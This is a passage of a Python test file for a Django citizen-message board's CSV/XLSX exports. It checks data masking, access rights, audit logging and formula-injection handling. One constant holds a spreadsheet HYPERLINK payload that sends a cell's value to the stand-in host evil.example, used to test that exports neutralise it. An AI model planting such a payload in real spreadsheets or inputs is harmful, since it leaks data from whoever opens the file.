"""CSV/XLSX exports: message lists (personal data only for authorised staff, audited),
statistics tables and campaign reports."""

from __future__ import annotations

import csv
import datetime as dt
import getpass
import io
import itertools
import re

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.http import StreamingHttpResponse
from django.utils import timezone
from openpyxl import load_workbook

from minsheng.board import actions
from minsheng.board.models import Event, Message
from minsheng.stats import exports, figures
from minsheng.stats.models import Campaign

from .conftest import make_user
from .test_stats_cases import BODY

# What a citizen typed as a title (QA report 2026-12-02, item 1)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"


def _csv(response, whole: bool = False) -> list[list[str]]:
    """The rows of a CSV export: its data (header first) up to the first empty row, where the stacked 说明
    begins (``exports.stacked_rows``, since 2026-12-06), as a program importing it reads it; ``whole``: every row."""
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text))) if whole else data_rows(csv.reader(io.StringIO(text)))


def data_rows(rows) -> list[list[str]]:
    """A stacked CSV's first sheet: its rows up to the first empty one."""
    return list(itertools.takewhile(bool, rows))


def _exports():
    return Event.objects.filter(kind=Event.Kind.EXPORTED)


def test_public_csv_has_no_personal_data(client, cases):
    response = client.get("/stats/export/messages.csv", {"region": "620100", "measure": "received"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _csv(response)
    header, body = rows[0], rows[1:]
    assert "手机" not in header and "留言人" not in header
    flat = "\n".join(",".join(r) for r in rows)
    assert "13800000001" not in flat and "xiaoli@example.com" not in flat
    assert len(body) == figures.compute(region="620100")["received"]
    ids = {r[0] for r in body}
    assert cases["pending"].public_id not in ids and cases["withdrawn"].public_id not in ids
    assert not _exports().exists()


def test_personal_export_is_for_authorised_staff_and_audited(client, login, personas, cases):
    sup = login(personas["supervisor"])
    response = sup.get("/stats/export/messages.csv", {"region": "620100", "personal": "1", "measure": "submitted"})
    assert response.status_code == 200
    rows = _csv(response)
    assert rows[0][-4:] == ["留言人", "手机", "邮箱", "联系人"]
    assert any("13800000001" in r for r in rows[1:])
    in_region = Message.objects.filter(region__code__startswith="6201").count()
    assert len(rows) - 1 == in_region
    event = _exports().get()
    assert event.actor == personas["supervisor"] and event.message is None and event.public is False
    assert event.data["rows"] == in_region and event.data["filters"]["region"] == "620100"


def test_a_hotline_callers_name_is_in_the_personal_export_only(client, login, personas, cases):
    """An Open311 request's 联系人 (王先生, from a landline) is what the officer calling back asks for:
    the personal export has it, last, after the columns it had; the public one has no such column."""
    public = _csv(client.get("/stats/export/messages.csv", {"region": "620100", "measure": "received"}))
    public_id = public[1][0]
    Message.objects.filter(public_id=public_id).update(contact_phone="0931-8123456", contact_name="王先生")
    rows = _csv(login(personas["supervisor"]).get("/stats/export/messages.csv",
                                                  {"region": "620100", "personal": "1", "measure": "submitted"}))
    row = next(r for r in rows[1:] if r[0] == public_id)
    columns = dict(zip(rows[0], row, strict=True))
    assert (columns["联系人"], columns["手机"]) == ("王先生", "0931-8123456")
    flat = "\n".join(",".join(r) for r in _csv(client.get("/stats/export/messages.csv",
                                                            {"region": "620100", "measure": "received"})))
    assert "王先生" not in flat and "联系人" not in flat


@pytest.mark.parametrize("personal", [False, True])
def test_message_rows_read_only_the_columns_they_show_in_a_fixed_number_of_queries(cases, personal):
    """A row read whole the five models it joins (the body, the author's record, …): 0.47 ms a
    message, 28 s for 60,000. A column left out of ``only`` would be read once per row."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    qs = Message.objects.order_by("id")
    with CaptureQueriesContext(connection) as queries:
        rows = list(exports.message_rows(qs, personal=personal))
    assert len(rows) == qs.count() >= 5
    assert len(queries) <= 3  # the unit names, the rows (and a savepoint or chunk on some databases)
    read = queries.captured_queries[-1]["sql"]
    assert '"password"' not in read and '"last_login"' not in read and '"address"' not in read
    assert all(row[10].endswith(f"/m/{row[0]}/") and row[4] for row in rows)  # 链接, 区划
    main = next(row for row in rows if row[0] == cases["pending"].public_id)
    assert main[1] == cases["pending"].title or not personal
    if personal:
        assert main[-4] and main[-3] == cases["pending"].contact_phone


@pytest.mark.parametrize("who, region", [("officer", "620100"), ("citizen", "620100"), ("supervisor", "621100"),
                                         ("supervisor", "620000"), ("dx_dispatcher", "620100")])
def test_personal_export_refused(login, personas, cases, who, region):
    response = login(personas[who]).get("/stats/export/messages.csv", {"region": region, "personal": "1"})
    assert response.status_code == 403
    assert "error" in response.json()
    assert not _exports().exists()


def test_anonymous_personal_export_refused(client, cases):
    response = client.get("/stats/export/messages.xlsx", {"personal": "1"})
    assert response.status_code == 403 and not _exports().exists()


def test_dispatcher_default_region_and_xlsx(login, personas, cases):
    response = login(personas["dispatcher"]).get("/stats/export/messages.xlsx",
                                                  {"personal": "1", "measure": "overdue"})
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    rows = list(ws.iter_rows(values_only=True))
    ids = {r[0] for r in rows[1:]}
    assert ids == {cases["overdue"].public_id, cases["reopened_open"].public_id}
    assert _exports().get().data["format"] == "xlsx"


def test_staff_only_measures_need_personal_mode(client, cases):
    response = client.get("/stats/export/messages.csv", {"measure": "overdue"})
    assert response.status_code == 403


def test_bad_export_requests(client, directory):
    assert client.get("/stats/export/messages.pdf").status_code == 404
    response = client.get("/stats/export/messages.csv", {"region": "abc"})
    assert response.status_code == 400 and "区划" in response.json()["error"]
    assert client.get("/stats/export/table.csv", {"by": "weather"}).status_code == 400


@pytest.mark.parametrize("url, params, status, message", [
    ("/stats/export/table.csv", {"by": "zzz"}, 400, "不支持的分组: zzz"),
    ("/stats/export/messages.csv", {"date_from": "zzz"}, 400, "不是有效日期"),
    ("/stats/export/messages.xlsx", {"measure": "overdue"}, 403, "该统计项只能由工作人员导出"),
    ("/stats/figures.json", {"region": "zzz"}, 400, "没有区划代码为 zzz 的区划"),
], ids=["table-by", "date", "staff-measure", "figures-json"])
def test_export_errors_are_readable_chinese(client, directory, url, params, status, message):
    response = client.get(url, params)
    assert response.status_code == status
    assert response["Content-Type"] == "application/json; charset=utf-8"
    body = response.content.decode("utf-8")
    assert message in body and "\\u" not in body  # not {"error": "\u4e0d\u652f…"}
    assert message in response.json()["error"]


def test_export_error_in_a_browser_is_the_statistics_error_page(client, login, personas):
    response = client.get("/stats/export/table.csv", {"by": "zzz"}, HTTP_ACCEPT=BROWSER_ACCEPT)
    assert response.status_code == 400 and response["Content-Type"].startswith("text/html")
    page = response.content.decode()
    assert "无法显示" in page and "不支持的分组: zzz" in page and "返回公开统计" in page
    refused = login(personas["citizen"]).get("/stats/export/messages.csv", {"personal": "1", "region": "620100"},
                                             HTTP_ACCEPT=BROWSER_ACCEPT)
    assert refused.status_code == 403 and "您无权导出该区划留言的个人信息" in refused.content.decode()
    assert not _exports().exists()


def test_admin_exports_personal_data_of_the_whole_country(login, personas, cases):
    """An admin oversees everywhere: no region means every region (was a 500)."""
    admin = login(make_user("root", is_superuser=True, is_staff=True))
    response = admin.get("/stats/export/messages.csv", {"personal": "1"})
    assert response.status_code == 200
    ids = {r[0] for r in _csv(response)[1:]}
    assert cases["dingxi"].public_id in ids and cases["on_time_satisfied"].public_id in ids
    assert len(ids) == figures.compute()["received"]
    response = admin.get("/stats/export/messages.xlsx", {"personal": "1", "measure": "received"})
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2, values_only=True))
    assert {r[0] for r in rows} == ids
    assert [e.data["filters"].get("region") for e in _exports()] == [None, None]


# --- spreadsheet formulas from users' text (CSV/formula injection) ----------------------

def test_formula_like_text_is_marked_as_text():
    row = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "a=b", "", None, -2, 3.5, 0]
    assert exports.csv_cells(row) == ["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", None,
                                      -2, 3.5, 0]


@pytest.fixture
def formula_message(directory, personas, django_capture_on_commit_callbacks):
    citizen = personas["citizen"]
    citizen.display_name = "@小李"
    citizen.save(update_fields=["display_name"])
    with django_capture_on_commit_callbacks(execute=True):
        m = actions.do_submit(citizen, title=FORMULA, body=BODY, kind="help", region=directory["chengguan"],
                              topic=directory["topic_build"])
        actions.do_accept(personas["dispatcher"], m)
    return m


def _no_formulas(workbook) -> dict:
    """value -> data type of every non-empty cell, after checking none is a formula."""
    cells = {c.value: c.data_type for ws in workbook for row in ws.iter_rows() for c in row if c.value is not None}
    assert "f" not in cells.values()
    return cells


def test_message_exports_write_a_formula_title_as_text(client, login, personas, formula_message):
    params = {"region": "620102", "measure": "received"}
    rows = _csv(client.get("/stats/export/messages.csv", params))
    assert rows[1][0] == formula_message.public_id
    assert rows[1][1] == "'" + formula_message.public_title and rows[1][1].startswith("'=HYPERLINK(")
    response = client.get("/stats/export/messages.xlsx", params)
    cells = _no_formulas(load_workbook(io.BytesIO(response.content)))
    assert cells[formula_message.public_title] == "s"
    # personal exports: the author's name too
    sup = login(personas["supervisor"])
    rows = _csv(sup.get("/stats/export/messages.csv", {**params, "personal": "1"}))
    assert rows[1][1] == "'" + FORMULA and rows[1][-4] == "'@小李"
    response = sup.get("/stats/export/messages.xlsx", {**params, "personal": "1"})
    cells = _no_formulas(load_workbook(io.BytesIO(response.content)))
    assert cells[FORMULA] == "s" and cells["@小李"] == "s"


def test_table_and_campaign_exports_write_formula_names_as_text_and_numbers_as_numbers(client, directory,
                                                                                        formula_message):
    directory["chengguan"].name = "-城关区"  # names are typed in the back office
    directory["chengguan"].save(update_fields=["name"])
    today = timezone.localdate()
    Campaign.objects.create(slug="c1", name="=1+1", start=today - dt.timedelta(days=1), end=today)
    wb = load_workbook(io.BytesIO(client.get("/stats/export/table.xlsx", {"region": "620100"}).content))
    rows = {r[0].value: r for r in wb["按区划"].iter_rows(min_row=2)}
    assert rows["-城关区"][0].data_type == "s"
    assert rows["-城关区"][1].value == 1 and rows["-城关区"][1].data_type == "n"
    _no_formulas(wb)
    rows = _csv(client.get("/stats/export/table.csv", {"region": "620100"}))
    assert ["'-城关区", "1"] == rows[1][:2]
    wb = load_workbook(io.BytesIO(client.get("/stats/campaigns/c1/report.xlsx").content))
    assert _no_formulas(wb)["=1+1"] == "s"
    assert ["活动", "'=1+1"] in _csv(client.get("/stats/campaigns/c1/report.csv"), whole=True)


def test_export_command_writes_a_formula_title_as_text(formula_message, tmp_path, capsys):
    out = tmp_path / "m.xlsx"
    call_command("export_stats", "messages", "--region", "620102", "--format", "xlsx", "-o", str(out))
    assert _no_formulas(load_workbook(out))[formula_message.public_title] == "s"
    call_command("export_stats", "messages", "--region", "620102")
    rows = data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][1] == "'" + formula_message.public_title


def test_statistics_table_exports(client, cases):
    rows = _csv(client.get("/stats/export/table.csv", {"by": "region", "region": "620000"}))
    by_label = {r[0]: r for r in rows[1:]}
    assert rows[0][:3] == ["区划", "受理", "已答复"]
    assert int(by_label["兰州市"][1]) == figures.compute(region="620100")["received"]
    response = client.get("/stats/export/table.xlsx", {"by": "unit"})
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["按办理单位", "合计", "说明"]
    names = [r[0] for r in wb["按办理单位"].iter_rows(min_row=2, values_only=True)]
    assert "兰州市生态环境局" in names


def test_campaign_report_exports(client, cases, directory):
    today = timezone.localdate()
    Campaign.objects.create(slug="c1", name="我为群众办实事", start=today - dt.timedelta(days=90), end=today)
    response = client.get("/stats/campaigns/c1/report.xlsx")
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["汇总", "按区划", "按领域", "按单位", "按月份"]
    summary = {r[0]: r[1] for r in wb["汇总"].iter_rows(min_row=2, values_only=True)}
    assert summary["受理"] == figures.compute(campaign="c1")["received"]
    assert "共收到群众留言" in summary["公告"]
    rows = _csv(client.get("/stats/campaigns/c1/report.csv"), whole=True)
    assert any(r and r[0] == "按区划" for r in rows)


def test_the_command_writes_the_same_sheets_as_the_web(client, cases, directory, tmp_path):
    """`minsheng export-stats campaign|table` and the pages' exports share one layout."""
    today = timezone.localdate()
    Campaign.objects.create(slug="c1", name="我为群众办实事", start=today - dt.timedelta(days=90), end=today)
    for what, url, extra in [("campaign", "/stats/campaigns/c1/report.xlsx", ["--campaign", "c1"]),
                             ("table", "/stats/export/table.xlsx?by=topic&region=620000",
                              ["--by", "topic", "--region", "620000"])]:
        out = tmp_path / f"{what}.xlsx"
        call_command("export_stats", what, *extra, "--format", "xlsx", "-o", str(out))
        web = load_workbook(io.BytesIO(client.get(url).content))
        cli = load_workbook(out)
        assert cli.sheetnames == web.sheetnames
        for name in web.sheetnames:
            # 说明 (a table's) alike but for the minute each was counted at
            assert ([r for r in cli[name].values if r[0] != "统计截至"]
                    == [r for r in web[name].values if r[0] != "统计截至"])
    assert load_workbook(tmp_path / "table.xlsx")["按领域"]["A1"].value == "领域"  # not the option's English name


def test_export_command(cases, tmp_path, capsys):
    out = tmp_path / "t.xlsx"
    call_command("export_stats", "table", "--by", "topic", "--format", "xlsx", "-o", str(out))
    assert load_workbook(out).active.max_row > 1
    call_command("export_stats", "messages", "--region", "620102")
    text = capsys.readouterr().out
    assert cases["on_time_satisfied"].public_id in text and "13800000001" not in text
    with pytest.raises(CommandError, match="区划"):
        call_command("export_stats", "messages", "--region", "x")
    with pytest.raises(CommandError, match="征集活动"):
        call_command("export_stats", "campaign", "--campaign", "nope")


@pytest.mark.django_db
@pytest.mark.parametrize("args, says", [
    (["campaign", "--campaign", "c1", "--region", "620100", "--from", "2026-01-01"],
     "campaign 报告是整个征集活动的, 不按 --region, --from 筛选"),
    (["campaign", "--campaign", "c1", "--by", "unit"], "--by 只用于 table"),
    (["table", "--personal"], "--measure 和 --personal 只用于 messages"),
    (["table", "--measure", "overdue"], "--measure 和 --personal 只用于 messages"),
    (["messages", "--by", "unit"], "--by 只用于 table"),
    (["messages", "--measure", ""], "不支持的统计项: "),  # not the received list in its place (a review, 2026-12-07)
])
def test_an_option_the_export_would_leave_out_is_refused(directory, tmp_path, args, says):
    """Until 2026-12-07 these were dropped in silence: a campaign report 「for 兰州市」 was the whole
    province's, `table --personal` a public table, `messages --by unit` a plain list."""
    today = timezone.localdate()
    Campaign.objects.create(slug="c1", name="我为群众办实事", start=today - dt.timedelta(days=90), end=today)
    out = tmp_path / "out.csv"
    with pytest.raises(CommandError) as refused:
        call_command("export_stats", *args, "-o", str(out))
    assert str(refused.value) == says
    assert not out.exists() and not Event.objects.filter(kind=Event.Kind.EXPORTED).exists()


@pytest.mark.django_db
def test_the_export_commands_format_follows_the_file_name_and_a_contradiction_is_refused(directory, tmp_path, capsys):
    """`export-stats -o t.xlsx` wrote CSV text under the .xlsx name (the default format), and `--format xlsx
    -o x.csv` a workbook under a .csv name, both reported as written (until 2026-12-07)."""
    call_command("export_stats", "table", "-o", str(tmp_path / "t.xlsx"))
    assert load_workbook(tmp_path / "t.xlsx").sheetnames == ["按区划", "合计", "说明"]
    call_command("export_stats", "table", "-o", str(tmp_path / "t.CSV"))
    assert (tmp_path / "t.CSV").read_text(encoding="utf-8-sig").startswith("区划,受理,")
    for given, name, says in [("xlsx", "x.csv", "CSV"), ("csv", "x.XLSX", "XLSX")]:
        with pytest.raises(CommandError) as refused:
            call_command("export_stats", "messages", "--personal", "--format", given, "-o", str(tmp_path / name))
        assert str(refused.value) == (f"--format {given} 与输出文件名 {tmp_path / name} 不符 (按扩展名应为 {says}); "
                                      f"请去掉 --format, 或改用 .{given} 文件名")
        assert not (tmp_path / name).exists() and not _exports().exists()
    call_command("export_stats", "table", "--format", "xlsx", "-o", str(tmp_path / "t.dat"))  # --format decides
    assert load_workbook(io.BytesIO((tmp_path / "t.dat").read_bytes())).sheetnames[0] == "按区划"
    call_command("export_stats", "table", "-o", str(tmp_path / "t.txt"))  # neither says: CSV, as before
    assert (tmp_path / "t.txt").read_text(encoding="utf-8-sig").startswith("区划,受理,")
    call_command("export_stats", "table")  # no file: CSV on standard output, as before
    assert capsys.readouterr().out.startswith("区划,受理,")
    with pytest.raises(CommandError, match="XLSX 需要 --output 文件名"):
        call_command("export_stats", "table", "--format", "xlsx")


@pytest.mark.django_db
def test_export_command_bad_output_is_one_line_and_audits_nothing(directory, tmp_path):
    """-o naming a folder, a file as a folder or /proc was a traceback (IsADirectoryError,
    FileNotFoundError), after the audit row of a --personal export was written."""
    (tmp_path / "old.csv").write_text("旧文件", encoding="utf-8")
    for output, message in [(tmp_path, "是目录"), (tmp_path / "old.csv" / "m.FMT", "不是目录"),
                            ("/proc/minsheng-m.FMT", "无法写入")]:
        for fmt in ("csv", "xlsx"):  # the name's own format: another is refused first (2026-12-07)
            with pytest.raises(CommandError, match=message) as info:
                call_command("export_stats", "messages", "--personal", "--format", fmt, "-o",
                             str(output).replace("FMT", fmt))
            assert "\n" not in str(info.value)
    assert not Event.objects.filter(kind=Event.Kind.EXPORTED).exists()
    call_command("export_stats", "messages", "--personal", "-o", str(tmp_path / "p.csv"))
    audit = Event.objects.get(kind=Event.Kind.EXPORTED)  # who ran it: the system account
    assert audit.actor is None and audit.data["filters"]["system_user"] == getpass.getuser()
    (tmp_path / "p.csv").unlink()
    with pytest.raises(CommandError, match="区划"):  # a failure after the check keeps the old file
        call_command("export_stats", "messages", "--region", "x", "-o", str(tmp_path / "old.csv"))
    assert [p.name for p in tmp_path.iterdir()] == ["old.csv"]
    assert (tmp_path / "old.csv").read_text(encoding="utf-8") == "旧文件"


@pytest.mark.parametrize("title,shown", [
    ("路灯\x0b不亮", "路灯不亮"),
    # U+FFFE and U+FFFF are no XML characters: openpyxl wrote them, and the file failed to open (the
    # hand-written writer of 2026-12-04 dropped them; its revert did not)
    ("路灯\ufffe坏了\uffff", "路灯坏了"),
])
def test_a_character_xml_cannot_hold_in_a_title_does_not_break_the_xlsx_export(
        client, directory, personas, django_capture_on_commit_callbacks, title, shown):
    with django_capture_on_commit_callbacks(execute=True):
        m = actions.do_submit(personas["citizen"], title=title, body=BODY, kind="help",
                              region=directory["chengguan"], topic=directory["topic_build"])
        actions.do_accept(personas["dispatcher"], m)
    response = client.get("/stats/export/messages.xlsx", {"region": "620102", "measure": "received"})
    assert response.status_code == 200
    titles = [row[1].value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2)]
    assert shown in titles


def test_the_public_csv_masks_each_title_as_the_public_page_does(client, directory, personas,
                                                                django_capture_on_commit_callbacks):
    """The export reads plain column values and masks the title itself: a phone in the title,
    a name introduced in the body and the anonymous author's own registered name are hidden
    as ``Message.public_title`` hides them, and a name shown by choice stays."""
    anonymous = make_user("13800000071", phone="13800000071", display_name="赵德柱")
    shown = make_user("13800000072", phone="13800000072", display_name="钱多多")
    crafted = [
        (anonymous, False, "赵德柱反映小区电梯停运一个月", "电梯停运一个月了, 请尽快修复, 谢谢。"),
        (personas["citizen"], False, "孙大成家门口下水道堵塞", "联系人: 孙大成, 下水道堵了一周, 请派人疏通。"),
        (personas["citizen"], False, "请回电13912345678说明停水原因", "小区停水三天, 没有任何通知, 请说明。"),
        (shown, True, "钱多多反映路灯坏了很久", "路灯坏了很久, 晚上出行很不方便, 请维修。"),
    ]
    with django_capture_on_commit_callbacks(execute=True):
        made = []
        for author, show_name, title, body in crafted:
            m = actions.do_submit(author, title=title, body=body, kind="help", region=directory["chengguan"],
                                  topic=directory["topic_build"], show_name=show_name)
            actions.do_accept(personas["dispatcher"], m)
            made.append(m)
    rows = _csv(client.get("/stats/export/messages.csv", {"region": "620102", "measure": "received"}))
    titles = {r[0]: r[1] for r in rows[1:]}
    for m in made:
        m = Message.objects.select_related("author").get(pk=m.pk)
        assert titles[m.public_id] == m.public_title
    assert [titles[m.public_id] for m in made] == ["赵**反映小区电梯停运一个月", "孙**家门口下水道堵塞",
                                                  "请回电139****5678说明停水原因", "钱多多反映路灯坏了很久"]


def test_an_overdue_export_says_how_late_each_case_is_as_its_list_does(login, personas, cases, capsys):
    """The overdue list said 「N 个工作日」 for each case; its export (the link under its heading) had the
    deadline alone, and a leader sending the file to the units counted the days again by hand."""
    import re

    sup = login(personas["supervisor"])
    page = sup.get("/stats/overdue/", {"region": "620100"}).content.decode()
    shown = dict(re.findall(r'<div class="muted small">(\d+)</div></td>\s*<td data-label="超期天数"[^>]*>(.*?)</td>',
                            page, re.S))
    shown = {pid: re.sub(r"<[^>]+>", "", cell) for pid, cell in shown.items()}
    rows = _csv(sup.get("/stats/export/messages.csv", {"region": "620100", "measure": "overdue", "personal": "1"}))
    header = rows[0]
    assert header[header.index("答复期限") + 1] == "超期天数 (工作日)" and header[-4:] == ["留言人", "手机", "邮箱", "联系人"]
    late = {r[0]: r[header.index("超期天数 (工作日)")] for r in rows[1:]}
    assert set(late) == set(shown) and cases["overdue"].public_id in late
    for pid, cell in shown.items():
        assert cell == (f"{late[pid]} 个工作日" if late[pid] != "0" else "不足 1 个工作日")
    # the other lists keep their columns; the command writes the same column
    assert "超期天数 (工作日)" not in _csv(sup.get("/stats/export/messages.csv", {"region": "620100"}))[0]
    call_command("export_stats", "messages", "--measure", "overdue", "--region", "620100")
    out = data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert out[0] == exports.message_header(False, late=True) and {r[0]: r[8] for r in out[1:]} == late


def test_an_overdue_export_lists_the_cases_in_the_order_of_its_list(login, personas, cases, capsys):
    """/stats/overdue/ lists the most overdue first (``dir=asc`` the other way round); its exports
    listed the newest submitted first, so the file handed to the units began elsewhere than the page."""
    import re

    from minsheng.stats.models import OpenCase

    # the case submitted last is the more overdue: submission order and deadline order disagree
    late, later = cases["overdue"], cases["reopened_open"]
    assert late.submitted_at > later.submitted_at
    now = timezone.now()
    OpenCase.objects.filter(message=late).update(due_at=now - dt.timedelta(days=40))
    OpenCase.objects.filter(message=later).update(due_at=now - dt.timedelta(days=10))
    sup = login(personas["supervisor"])
    for order in ({}, {"dir": "asc"}):
        page = sup.get("/stats/overdue/", {"region": "620100", **order}).content.decode()
        listed = list(dict.fromkeys(re.findall(r"/staff/case/(\d+)/", page)))
        assert len(listed) == 2
        link = re.search(r'href="(/stats/export/messages\.csv\?[^"]+)"', page).group(1).replace("&amp;", "&")
        assert [r[0] for r in _csv(sup.get(link))[1:]] == listed
    assert listed == [later.public_id, late.public_id]  # dir=asc: the least overdue first
    call_command("export_stats", "messages", "--measure", "overdue", "--region", "620100")
    out = data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [r[0] for r in out[1:]] == [late.public_id, later.public_id]


def test_xlsx_rates_open_as_percentages(client, cases):
    """答复率 0.9138 read in Excel as 0.9138, not 91.4%: a leader quoting the workbook in a meeting
    had to convert every rate by hand. The value stays the exact fraction; the cell shows it in %."""
    wb = load_workbook(io.BytesIO(client.get("/stats/export/table.xlsx", {"region": "620100"}).content))
    header = [c.value for c in wb["按区划"][1]]
    city = next(r for r in wb["按区划"].iter_rows(min_row=2) if r[header.index("答复率")].value is not None)
    rate = city[header.index("答复率")]
    assert isinstance(rate.value, float) and 0 < rate.value <= 1 and rate.number_format == "0.0%"
    assert city[header.index("受理")].number_format == "General"  # counts stay plain numbers
    totals = {r[0].value: r[1] for r in wb["合计"].iter_rows(min_row=2)}
    assert totals["按时率"].number_format == "0.0%" and totals["已答复"].number_format == "General"


def _as_excel_shows(value: float) -> str:
    """What Excel shows of a cell formatted 0.0%: its decimal digits rounded half away from zero."""
    from decimal import ROUND_HALF_UP, Decimal

    return f"{(Decimal(repr(value)) * 100).quantize(Decimal('0.1'), ROUND_HALF_UP)}%"


@pytest.mark.parametrize(("part", "whole", "shown"), [(14, 17, "82.4%"), (71, 81, "87.7%"), (1, 16, "6.3%"),
                                                      (15, 19, "78.9%"), (4, 21, "19.0%"), (2, 3, "66.7%"),
                                                      (501, 1001, "50.0%"), (836, 1003, "83.3%"),
                                                      (668, 2003, "33.3%"), (1, 8, "12.5%"), (13, 16, "81.3%")])
def test_a_rate_reads_the_same_on_the_page_in_excel_and_by_hand(part, whole, shown):
    """答复率 of 71 out of 81 (87.65…%) read 87.6% on /stats/ and 87.7% in the Excel export: the rate was
    rounded to four decimals (0.8765) and then to one in %, downwards; 15 of 19 (78.947…%) read 79.0% on
    both. The page, the public boards and the workbook now all show the rate of the counts, rounded once —
    501 of 1001 (50.04995…%) too: rounded to six decimals it was 0.5005, and read 50.1% everywhere (review)."""
    from minsheng.board.views.public import percent as board_percent

    rate = figures._rate(part, whole)
    assert figures.percent(rate) == shown  # /stats/, the dashboard, the league table, the CLI
    assert f"{board_percent(rate)}%" == shown  # /leaders/, a region's page, the home page's figures
    assert _as_excel_shows(rate) == shown  # the export's cell, the exact fraction kept as its value


def test_a_supervisor_exports_the_late_list_without_the_citizens_contact_details(login, personas, cases):
    """超期清单's only export held each citizen's name, phone and e-mail (含联系方式, audited): a supervisor
    sending the late cases to the districts had to hand out every author's phone number, and the export
    without them answered 「该统计项只能由工作人员导出」 to a supervisor. It is offered beside it now: the same
    cases, 超期天数 and 主办单位, no contact columns, titles masked as in the public exports, not audited."""
    sup = login(personas["supervisor"])
    page = sup.get("/stats/overdue/", {"region": "620100"}).content.decode()
    plain = "/stats/export/messages.csv?region=620100&amp;measure=overdue"
    assert f'<a href="{plain}">CSV</a>' in page and "含联系方式" in page
    shown = set(re.findall(r'/staff/case/(\d+)/', page))
    response = sup.get("/stats/export/messages.csv", {"region": "620100", "measure": "overdue"})
    assert response.status_code == 200
    rows = _csv(response)
    assert "超期天数 (工作日)" in rows[0] and "主办单位" in rows[0]
    assert not {"手机", "邮箱", "留言人", "联系人"} & set(rows[0])
    assert {r[0] for r in rows[1:]} == shown and shown
    assert not [r for r in rows if personas["citizen"].phone in ",".join(r)]
    assert not _exports().exists()  # no personal data: no audit row
    # the same rights as the list with contact details: not another region's dispatcher
    refused = login(personas["dx_dispatcher"]).get("/stats/export/messages.csv",
                                                   {"region": "620100", "measure": "overdue"})
    assert refused.status_code == 403 and "无权导出" in refused.json()["error"]


def test_the_late_list_without_contact_details_masks_each_title_as_the_public_export(
        login, directory, personas, django_capture_on_commit_callbacks):
    """The export a supervisor forwards to the districts holds no 留言人/手机/邮箱 columns; a phone written in the
    title, a name introduced in the body and an anonymous author's own name are hidden in it as the public page
    hides them (``Message.public_title``), a name shown by choice stays."""
    long_ago = dt.datetime(2025, 3, 3, 9, 0, tzinfo=dt.timezone(dt.timedelta(hours=8)))
    anonymous = make_user("13800000081", phone="13800000081", display_name="周小川")
    crafted = [
        (anonymous, False, "周小川反映楼道灯不亮", "楼道灯不亮两个月了, 请派人修理。"),
        (personas["citizen"], False, "吴建国家楼下积水", "联系人: 吴建国, 楼下积水一周, 请尽快处理。"),
        (personas["citizen"], False, "请回电13987654321说明施工噪音", "工地夜间施工, 噪音很大, 请说明。"),
    ]
    with django_capture_on_commit_callbacks(execute=True):
        made = []
        for author, show_name, title, body in crafted:
            m = actions.do_submit(author, title=title, body=body, kind="help", region=directory["chengguan"],
                                  topic=directory["topic_build"], show_name=show_name)
            actions.do_dispatch(personas["dispatcher"], m, directory["housing"], at=long_ago)
            made.append(m)
    response = login(personas["supervisor"]).get("/stats/export/messages.csv",
                                                 {"region": "620102", "measure": "overdue"})
    assert response.status_code == 200
    rows = _csv(response)
    titles = {r[0]: r[1] for r in rows[1:]}
    for m in made:
        m = Message.objects.select_related("author").get(pk=m.pk)
        assert titles[m.public_id] == m.public_title != m.title
    flat = "\n".join(",".join(r) for r in rows)
    assert not [word for word in ("周小川", "吴建国", "13987654321", "13800000081") if word in flat]
    assert not _exports().exists()


def test_the_commands_take_the_pages_own_level_and_unit_filters(client, login, personas, cases, directory, capsys):
    """A supervisor reads 「兰州市本级」 and a unit's row on the pages (``own=1``, ``unit=``) and wants the same
    figures and lists from ``minsheng stats`` and ``minsheng export-stats``: neither took 本级 or a unit, so the
    command gave the whole city, another number than the row."""
    import json

    housing = str(directory["housing"].pk)
    sup = login(personas["supervisor"])
    for web, cli in (({"region": "620100", "own": "1"}, ["--region", "620100", "--own"]),
                     ({"unit": housing}, ["--unit", housing])):
        call_command("stats", *cli, "--json")
        figures_cli = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
        assert figures_cli == client.get("/api/v1/statistics/", web).json()
        listed = [r[0] for r in _csv(sup.get("/stats/export/messages.csv", {**web, "measure": "received"}))]
        call_command("export_stats", "messages", *cli)
        assert [r[0] for r in data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))] == listed
        table = _csv(sup.get("/stats/export/table.csv", {**web, "by": "topic"}))
        call_command("export_stats", "table", "--by", "topic", *cli)
        assert list(csv.reader(io.StringIO(capsys.readouterr().out)))[:len(table)] == table
    # the own-level list is the city's own cases, fewer than the whole city's
    call_command("export_stats", "messages", "--region", "620100")
    city = data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert 1 < len(listed) and len(_csv(sup.get("/stats/export/messages.csv", {"region": "620100", "own": "1"}))) < len(city)
    # the audit row of a personal export names the filters it was made with
    call_command("export_stats", "messages", "--personal", "--region", "620100", "--own", "--from", "2020-01-01")
    capsys.readouterr()
    audit = Event.objects.filter(kind="exported").latest("pk")
    assert {k: audit.data["filters"][k] for k in ("region", "own", "date_from")} == {
        "region": "620100", "own": "1", "date_from": "2020-01-01"}
    with pytest.raises(CommandError, match="“本级”需要选定一个区划"):
        call_command("export_stats", "messages", "--own")
    with pytest.raises(CommandError, match="没有这个办理单位"):
        call_command("stats", "--unit", "999999")


def test_an_overdue_xlsx_shows_its_titles_and_headings_whole(login, personas, cases):
    """QA walk 2026-12-06: the overdue list opened in Excel with every column at its default width
